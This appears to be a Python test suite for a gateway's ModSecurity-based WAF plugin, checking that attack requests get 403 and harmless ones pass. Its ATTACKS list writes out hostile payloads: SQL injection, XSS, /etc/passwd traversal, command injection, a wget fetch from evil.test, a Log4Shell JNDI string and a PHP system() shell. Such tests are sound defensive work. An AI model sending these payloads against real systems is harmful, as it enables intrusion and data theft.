# SPDX-License-Identifier: Apache-2.0
"""waf: rules of our own in each phase, and the Core Rule Set of Debian against attacks and harmless requests."""
import contextlib
import glob
import json

from tests.support import client, net, origin, wire
from tests.support.gateway import Folder, Gateway, run, simple_config

CRS = ["/etc/modsecurity/crs/crs-setup.conf", "/usr/share/modsecurity-crs/rules/*.conf"]
BROWSER = [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"),
           ("Accept", "text/html,application/json;q=0.9,*/*;q=0.8"), ("Accept-Language", "en")]
FORM = [("Content-Type", "application/x-www-form-urlencoded")]
JSON = [("Content-Type", "application/json")]


def skipped(t):
    if "libmodsecurity" in run("version").stdout and "none" not in run("version").stdout:
        return False
    t.skip("built without libmodsecurity")
    return True


@contextlib.contextmanager
def guarded(config, handler=None, settings=None):
    with origin.Origin(handler) as upstream:
        whole = simple_config(upstream.url)
        whole["plugins"] = [{"name": "waf", "config": config}]
        with Gateway(whole, settings) as gateway:
            yield gateway, upstream


def rule(number, text, phase, action="deny,status:403"):
    return 'SecRule %s "id:%d,phase:%d,%s,log,msg:\'rule %d\'"' % (text, number, phase, action, number)


# name, method, target, headers, body
ATTACKS = [
    ("SQL injection", "GET", "/?id=1%27%20OR%20%271%27=%271", [], None),
    ("SQL injection, union", "GET", "/?id=1%20UNION%20SELECT%20password%20FROM%20users", [], None),
    ("SQL injection in a form", "POST", "/login", FORM, b"user=admin%27--%20&x=1%27%20or%201=1%20--"),
    ("SQL injection in JSON", "POST", "/api", JSON, b'{"id": "1\' OR \'1\'=\'1"}'),
    ("script", "GET", "/?q=%3Cscript%3Ealert(1)%3C/script%3E", [], None),
    ("script in a form", "POST", "/", FORM, b"q=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E"),
    ("path traversal", "GET", "/?file=../../../../etc/passwd", [], None),
    ("command", "GET", "/?host=127.0.0.1;cat%20/etc/passwd", [], None),
    ("shell", "GET", "/?x=$(wget%20http://evil.test/x.sh)", [], None),
    ("Log4Shell", "GET", "/?x=$%7Bjndi:ldap://evil.test/a%7D", [], None),
    ("PHP", "GET", "/?x=%3C?php%20system($_GET[1]);?%3E", [], None),
    ("scanner", "GET", "/", [("User-Agent", "sqlmap/1.7 (https://sqlmap.org)")], None),
    ("another scanner", "GET", "/", [("User-Agent", "Nikto/2.5.0")], None),
]
HARMLESS = [
    ("a page", "GET", "/", [], None),
    ("a query", "GET", "/search?q=how+to+select+a+table+from+a+union&page=2", [], None),
    ("a form", "POST", "/contact", FORM, b"name=Conan+O%27Brien&text=Hello%2C+it+is+me%21"),
    ("JSON", "POST", "/api", JSON, b'{"name": "x", "list": [1, 2, {"a": null}], "text": "drop me a line"}'),
    ("no body", "POST", "/api", JSON, b""),
    ("an id", "GET", "/users/6b0f9d2e-6a8f-4f2c-9a0a-1be5f2b66a8f", [], None),
    ("HEAD", "HEAD", "/", [], None),
]


def test_core_rule_set(t):
    if skipped(t):
        return
    assert glob.glob(CRS[1]), "modsecurity-crs is not installed"
    with guarded({"rules_files": CRS, "paranoia_level": 1}) as (gateway, upstream), gateway.connect() as c:
        for refused, rows in ((True, ATTACKS), (False, HARMLESS)):
            for name, method, target, headers, body in rows:
                with t.case(name):
                    named = {field for field, _ in headers}
                    headers = headers + [pair for pair in BROWSER if pair[0] not in named]
                    answer = c.exchange(client.encode(method, target, headers, body))
                    assert answer.status == (403 if refused else 200), answer
                    seen = upstream.take()
                    assert len(seen) == (0 if refused else 1), seen
                    assert not seen or seen[0].body == (body or b"")


def test_detection_only_logs(t):
    if skipped(t):
        return
    with Folder() as folder:
        log = folder.file("waf.log")
        settings = {"waf_log": log, "status_listen": "off"}
        with guarded({"rules_files": CRS, "mode": "detection"}, settings=settings) as (gateway, _):
            answer = gateway.get("/?id=1%27%20OR%20%271%27=%271", BROWSER)
            assert answer.status == 200, answer
            def written():
                with open(log, encoding="utf-8") as f:
                    lines = f.read().split("\n")[:-1]
                return lines if any("SQL Injection" in line for line in lines) else None
            lines = net.wait_until(written, 10, lambda: "the rule's message in waf_log")
        assert all(answer.get("x-kong-request-id") in line for line in lines), lines[:3]


def test_each_phase(t):
    if skipped(t):
        return
    def handler(request):
        if request.target == "/head":
            return origin.answer(200, [("X-Bad", "1")])
        return origin.answer(200, body=b"a secret" if request.target == "/secret" else b"x" * 5000,
                             content_type="text/plain")
    rules = [rule(1, 'REQUEST_URI "@contains /uri"', 1), rule(2, 'REQUEST_HEADERS:X-Test "@streq bad"', 1),
             rule(3, 'REQUEST_BODY "@contains evil"', 2), rule(4, 'RESPONSE_HEADERS:X-Bad "@streq 1"', 3),
             rule(5, 'RESPONSE_BODY "@contains secret"', 4),
             rule(6, 'REQUEST_URI "@contains /moved"', 1, "redirect:https://a.test/,status:302"),
             rule(7, 'REQUEST_URI "@contains /teapot"', 1, "deny,status:418")]
    config = {"rules": rules, "response_body": True, "message": "Not you"}
    with guarded(config, handler) as (gateway, upstream):
        rows = [("GET", "/uri", [], None, 403), ("GET", "/", [("X-Test", "bad")], None, 403),
                ("POST", "/", FORM, b"x=evil", 403), ("POST", "/", FORM, b"x=good", 200),
                ("GET", "/head", [], None, 403), ("GET", "/fine", [], None, 200),
                ("GET", "/moved", [], None, 302), ("GET", "/teapot", [], None, 418)]
        for method, target, headers, body, status in rows:
            with t.case("%s %s %r" % (method, target, headers)):
                answer = gateway.request(method, target, headers, body)
                assert answer.status == status, answer
                assert status != 403 or b'"message":"Not you"' in answer.body, answer
                assert status != 200 or answer.body == b"x" * 5000, answer
                assert answer.get("location") == ("https://a.test/" if status == 302 else None), answer
        with t.case("a response's body is cut off"), gateway.connect() as c:
            c.send(client.encode("GET", "/secret"))
            try:
                answer = c.read()
            except wire.EndOfStream:
                answer = None
            assert answer is None, answer
            assert b"secret" not in c.reader.buffer
        assert all(request.target not in ("/uri", "/moved", "/teapot") for request in upstream.take())


def test_bodies_of_many_sizes(t):
    if skipped(t):
        return
    config = {"rules": [rule(1, 'REQUEST_BODY "@contains evil"', 2), rule(2, 'RESPONSE_BODY "@contains evil"', 4)],
              "request_body_limit": "1k", "response_body": True, "response_body_limit": "1k",
              "response_types": ["application/json"]}
    echo = lambda request: origin.answer(200, body=request.body)
    for long_body, status in (("refuse", 413), ("pass", 200)):
        with guarded({**config, "long_body": long_body}, echo) as (gateway, _), t.case(long_body):
            for size in (1, 1023, 1024):
                answer = gateway.request("POST", "/", FORM, b"x" * size)
                assert (answer.status, len(answer.body)) == (200, size), answer
            answer = gateway.request("POST", "/", FORM, b"x" * 5000)
            assert answer.status == status, answer
            assert status != 200 or len(answer.body) == 5000, answer
            assert gateway.request("POST", "/", FORM, b"x" * 1000 + b"evil").status == 403


def test_configurations_that_are_refused(t):
    if skipped(t):
        return
    rows = [({}, "rules", "at least one of these fields must be non-empty"),
            ({"rules": ["SecRuleEngine Maybe"]}, "rules", "Line: 1"),
            ({"rules": ["SecAction \"id:1,pass\"\nSecNonsense"]}, "rules", "Line: 2"),
            ({"rules_files": ["/nowhere/*.conf"]}, "rules_files", "no such file: /nowhere/*.conf"),
            ({"rules": ["SecAction \"id:1,pass\""], "paranoia_level": 5}, "paranoia_level", "between 1 and 4"),
            ({"rules": ["SecAction \"id:1,pass\""], "mode": "learning"}, "mode", "expected one of")]
    with Folder() as folder:
        for i, (config, field, reason) in enumerate(rows):
            with t.case(repr(config)):
                text = '{"_format_version": "3.0", "plugins": [{"name": "waf", "config": %s}]}'
                path = folder.file("bad%d.json" % i, text % json.dumps(config))
                done = run("check", "-c", path)
                assert done.returncode == 1, done
                assert "config." + field in done.stderr + done.stdout, done
                assert reason in done.stderr + done.stdout, done


def test_rules_live_as_long_as_their_configuration(t):
    if skipped(t):
        return
    with guarded({"rules": [rule(1, 'ARGS "@contains a"', 1)]}) as (gateway, upstream):
        assert gateway.get("/?x=a").status == 403
        for letter in "bcdefg":
            config = simple_config(upstream.url)
            config["plugins"] = [{"name": "waf", "config": {"rules": [rule(1, 'ARGS "@contains %s"' % letter, 1)]}}]
            gateway.reload(config)
            net.wait_until(lambda: gateway.get("/?x=" + letter).status == 403, 10, lambda: "the new rule")
        net.wait_until(lambda: gateway.stderr().count("reload done") == 6, 10, lambda: "all shards")
        assert gateway.get("/?x=a").status == 200


def test_the_library_is_opened_when_it_is_needed(t):
    if skipped(t):
        return
    with origin.Origin() as upstream, Gateway(simple_config(upstream.url)) as gateway:
        assert gateway.get("/?x=a").status == 200
        with open("/proc/%d/maps" % gateway.pid) as maps:
            assert "libmodsecurity" not in maps.read()
        config = simple_config(upstream.url)
        config["plugins"] = [{"name": "waf", "config": {"rules": [rule(1, 'ARGS "@contains a"', 1)]}}]
        gateway.reload(config)
        net.wait_until(lambda: gateway.get("/?x=a").status == 403, 10, lambda: "the first rule")
        assert gateway.get("/?x=b").status == 200


def test_a_library_that_cannot_be_opened(t):
    if skipped(t):
        return
    with Folder() as folder:
        folder.file("libmodsecurity.so.3", "no library")
        config = folder.file("waf.json", json.dumps({"_format_version": "3.0", "plugins": [
            {"name": "waf", "config": {"rules": [rule(1, 'ARGS "@contains a"', 1)]}}]}))
        done = run("check", "-c", config, env={"LD_LIBRARY_PATH": folder.path})
        assert done.returncode == 1, done
        assert "this gateway has no waf" in done.stderr and "libmodsecurity.so.3: " in done.stderr, done
        assert "none: " in run("version", env={"LD_LIBRARY_PATH": folder.path}).stdout
